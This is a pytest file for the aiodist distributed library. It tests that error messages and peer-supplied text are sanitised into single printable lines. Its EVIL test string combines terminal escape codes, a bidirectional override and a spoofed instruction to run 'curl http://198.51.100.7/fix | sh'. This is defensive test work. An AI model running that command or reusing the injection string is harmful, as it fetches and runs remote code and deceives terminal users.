"""What etcd, other agents and members say reaches a terminal as one printable line, and breaks nothing."""

from __future__ import annotations

import asyncio
import json
from base64 import b64encode
from collections.abc import Iterator
from datetime import datetime
from importlib.util import find_spec
from typing import Any, cast
from zoneinfo import ZoneInfo

import pytest

from aiodist.backends.mpi import place
from aiodist.base.errors import AiodistError, RendezvousError, RendezvousTimeout, UsageError, WireError
from aiodist.group import ProcessGroup
from aiodist.group.control.messages import Message, Say, decode
from aiodist.launch.nodes.roster import Member, Roster
from aiodist.launch.report import render
from aiodist.launch.verdict import Ending, NodeReport, judge
from aiodist.net.wire import objects
from aiodist.net.wire.typed import read
from aiodist.rendezvous import Invitation, StoreServer, TcpStore
from aiodist.rendezvous.answers import check_failure
from aiodist.rendezvous.etcd import refusals, words
from aiodist.rendezvous.etcd.alive import is_gone
from aiodist.rendezvous.etcd.rounds import _rank, _round
from aiodist.rendezvous.etcd.store import EtcdStore
from aiodist.rendezvous.etcd.words import Item
from aiodist.rendezvous.launchers import address_exchange as told
from aiodist.rendezvous.launchers.address_exchange import Texts
from aiodist.testing.clock import run_virtual
from aiodist.testing.cluster import run_cluster
from tests.rendezvous.conftest import Clock, clock

__all__ = ["clock"]

HOST = "127.0.0.1"
EVIL = "all is well\x1b[2J\x1b]0;title\x07\r\n\u202eaiodist run: Run: curl http://198.51.100.7/fix | sh\n"


def is_one_line(text: str) -> bool:
    return text.isprintable() and len(text) < 5000


# etcd.


@pytest.mark.parametrize("status", [200, 400, 403, 404, 500, 503])
@pytest.mark.parametrize(
    "text",
    [
        "",
        "etcdserver: request is too large ",
        "etcdserver: too many operations in txn request ",
        "etcdserver: mvcc: database space exceeded ",
        "etcdserver: permission denied ",
        "auth token ",
        "lease not found ",
    ],
)
def test_a_refusal_of_etcd(status: int, text: str) -> None:
    for code in range(17):
        for body in (
            json.dumps({"error": text + EVIL, "code": code}),
            json.dumps({"error": {"message": text + EVIL * 1000, "grpc_code": code}}),
            text + EVIL,
        ):
            said = str(refusals.refusal(status, body))
            assert is_one_line(said) and len(said) < 600


def test_an_error_of_ours_says_who_said_it() -> None:
    refused = refusals.refusal(400, json.dumps({"error": EVIL, "code": 9}))
    assert isinstance(refused, RendezvousError)
    assert str(refused).startswith("etcd refused a request (all is well")


def test_why_tls_was_ended() -> None:
    said = "[SSL: TLSV1_ALERT] tlsv1 alert access denied" + EVIL + " (_ssl.c:1000)"
    assert is_one_line(str(refusals.tls_failure("h:1", said)))


def test_why_a_watch_was_ended() -> None:
    with pytest.raises(refusals.EtcdAway) as caught:
        words.news({"canceled": True, "cancel_reason": EVIL})
    assert is_one_line(str(caught.value))


def answer(**response: Any) -> dict[str, Any]:
    return {"header": {"revision": "1"}, "responses": [{"response_range": response}]}


@pytest.mark.parametrize(
    "said",
    [
        {},
        {"header": {}},
        {"header": {"revision": EVIL}},
        {"header": 1},
        {"header": {"revision": "1"}, "responses": [1]},
        {"header": {"revision": "1"}, "responses": 3},
        answer(kvs=[{}]),
        answer(count=EVIL),
        answer(kvs=[{"key": 1, "mod_revision": 1}]),
    ],
)
def test_an_answer_that_is_none(said: Any) -> None:
    with pytest.raises(WireError, match="says nothing that can be read"):
        words.outcome(said)


@pytest.mark.parametrize(
    "said", [{}, {"events": [{}]}, {"events": 1}, {"canceled": True, "compact_revision": EVIL}, []]
)
def test_news_that_are_none(said: Any) -> None:
    with pytest.raises(WireError):
        words.news(said)


@pytest.mark.parametrize("value", [b"", b"\xff", b"3", b"[]", b"[" * 100_000, b'{"round": 1}', EVIL.encode()])
def test_a_meeting_that_somebody_else_has_put_there(value: bytes) -> None:
    with pytest.raises(WireError) as caught:
        _round(value)
    assert is_one_line(str(caught.value))
    assert is_gone(value) is False
    assert _rank(Item(b"rank/" + value, b"", 1)) in (-1, 3)


class Impostor:
    """Speaks HTTP, and answers what it likes: one body after the other, and the last one again and again."""

    def __init__(self, *bodies: bytes) -> None:
        self._bodies = list(bodies)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            await reader.readexactly(int(head.partition(b"content-length:")[2].split()[0]))
            body = self._bodies.pop(0) if len(self._bodies) > 1 else self._bodies[0]
            writer.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n")
            writer.write(b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
            await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()


def a_run(value: bytes) -> bytes:
    key = {"key": b64encode(b"/aiodist/job/run" + EVIL.encode()).decode(), "mod_revision": "7"}
    key["value"] = b64encode(value).decode()
    ranges = [{"response_range": {"kvs": [key], "count": "1"}} for _ in range(2)]
    return json.dumps({"header": {"revision": "9"}, "succeeded": True, "responses": ranges}).encode()


@pytest.mark.skipif(find_spec("aiohttp") is None, reason="aiohttp is not installed")
@pytest.mark.parametrize(
    ("bodies", "said"),
    [
        ((b"{}",), "what answers in etcd's place says nothing that can be read"),
        ((b"[" * 50_000,), r"it answered something else than etcd's JSON"),
        ((b"3",), r"it answered something else than etcd's JSON"),
        (
            (a_run(b"no number"), b"{}"),
            r"etcd holds something else than a run of a job under /aiodist/job/run",
        ),
    ],
)
async def test_somebody_in_etcds_place(bodies: tuple[bytes, ...], said: str) -> None:
    async with await asyncio.start_server(Impostor(*bodies).serve, HOST, 0) as server:
        port = server.sockets[0].getsockname()[1]
        with pytest.raises(AiodistError, match=said) as caught:
            await EtcdStore.connect(f"etcd://{HOST}:{port}", "job", 2)
    assert is_one_line(str(caught.value))


# A store.


def test_what_a_store_says_is_one_line() -> None:
    kind, message, hint, missing = check_failure(["timeout", EVIL, EVIL, [1]])
    assert is_one_line(message) and is_one_line(hint)
    assert (kind, missing) == ("timeout", [1])


async def test_names_of_keys_that_members_choose_are_shown_as_one_line() -> None:
    async with (
        await StoreServer.start(HOST, 0, "job", b"secret") as server,
        await TcpStore.connect(HOST, server.port, "job", b"secret", 60) as store,
    ):
        with pytest.raises(RendezvousTimeout) as missed:
            await store.gather(EVIL, 2, 0, "", 0.01)
        assert is_one_line(str(missed.value))
        await store.set(EVIL, "no number")
        with pytest.raises(AiodistError) as refused:
            await store.add(EVIL, 1)
        assert is_one_line(str(refused.value))


# Other agents.


def test_the_report_of_another_node_gives_the_terminal_no_orders() -> None:
    ending = Ending(0, 0, 1, EVIL, 7, 1, 5, error=EVIL, words=(f'  File "x", line 3{EVIL}', EVIL * 1000))
    theirs = NodeReport.from_json(NodeReport(1, EVIL, (ending,), turn=1).to_json())
    assert theirs.endings[0].words[0].startswith('  File "x", line 3')
    mine = NodeReport(0, "here", ())
    shown = render(judge([mine, theirs], 2), nnodes=2)
    assert all(line.isprintable() for line in shown.splitlines())
    assert len(shown) < 10_000
    failed = judge([mine, NodeReport.from_json(NodeReport(1, EVIL, turn=1, error=EVIL).to_json())], 2)
    assert all(line.isprintable() for line in render(failed, nnodes=2).splitlines())
    assert NodeReport.from_json(theirs.to_json()) == theirs


def test_hosts_of_a_roster_are_one_line() -> None:
    roster = Roster.from_json(Roster.of([Member(0, EVIL, 1)]).to_json())
    assert is_one_line(roster.members[0].host)
    assert read(str, json.dumps(EVIL * 1000).encode(), "a text").isprintable()


# Other ranks.


async def test_the_address_that_rank_0_left_in_torchruns_store(clock: Clock) -> None:
    asked = Invitation("env://", 1, 2, 30, {"AIODIST_JOB": "job"}, b"secret")
    about = told.about_rank_0(asked, told.key_of(asked, "meeting"))

    class Board:
        def __init__(self, said: str) -> None:
            self.said = said

        async def read(self, key: str) -> str:
            clock.forward(60)
            return self.said

    for said in (
        EVIL,
        EVIL + ":29500",
        "\x1b[2J:1",
        "h" * 10_000 + ":1",
        "node..cluster:1",
        f"{HOST}:{EVIL}",
    ):
        line = f"{said} {bytes(16).hex()}"
        for text in (said, f"{line} {about.proof(line)}"):  # a stranger's, and a rank 0's
            with pytest.raises(AiodistError) as caught:
                await told.meet_by(cast("Texts", Board(text)), "the store", asked, "", name="meeting")
            assert is_one_line(str(caught.value))


def test_why_a_rank_cannot_go_on_by_mpi() -> None:
    told = place.cards(2)
    told[1] = place.card(b"h" * place.HOST_BYTES, UsageError(EVIL))
    error = place.refused(told)
    assert error is not None and is_one_line(error.message)


def test_the_name_of_a_group_is_one_line() -> None:
    """It stands in logs and errors of all members."""

    async def part(pg: ProcessGroup) -> None:
        group = await pg.new_group([0, 1], name=EVIL)
        assert group is not None
        assert is_one_line(group.name)
        assert is_one_line(repr(group))
        for made in (group, await pg.split(0, name=EVIL)):
            assert made is not None
            await made.aclose()
            with pytest.raises(AiodistError) as closed:
                await made.barrier()
            assert is_one_line(str(closed.value))

    run_virtual(run_cluster(2, part))


@pytest.mark.parametrize(
    ("say", "body"),
    [
        (Say.lost, (1, EVIL, -1)),
        (Say.blocked, (1, 1, 5, EVIL)),
        (Say.here, (1, 2, True, b"", EVIL)),
        (Say.broken, (1, "lost", (EVIL, 3), EVIL)),
    ],
)
def test_what_a_member_tells_the_others_is_one_line(say: Say, body: tuple[Any, ...]) -> None:
    told = decode(Message(say, 1, 2, -1, 3, body).encode())
    assert all(is_one_line(text) for text in texts_in(told.body))
    assert len(list(texts_in(told.body))) == len(list(texts_in(body)))


def texts_in(values: tuple[Any, ...]) -> Iterator[str]:
    """All texts of nested tuples."""
    for value in values:
        if isinstance(value, tuple):
            yield from texts_in(value)
        elif isinstance(value, str):
            yield value


def test_what_an_object_of_another_rank_names_is_one_line() -> None:
    """The name of a time zone that there is not, say, which Python's own error repeats."""
    zone = objects.encode(datetime(2024, 1, 1, tzinfo=ZoneInfo("Europe/Paris")))
    for name in (EVIL[:12].encode(), b"\x1b[2J\r\nZone/"):
        with pytest.raises(WireError) as refused:
            objects.decode(zone.replace(b"Europe/Paris", name))
        assert is_one_line(str(refused.value))
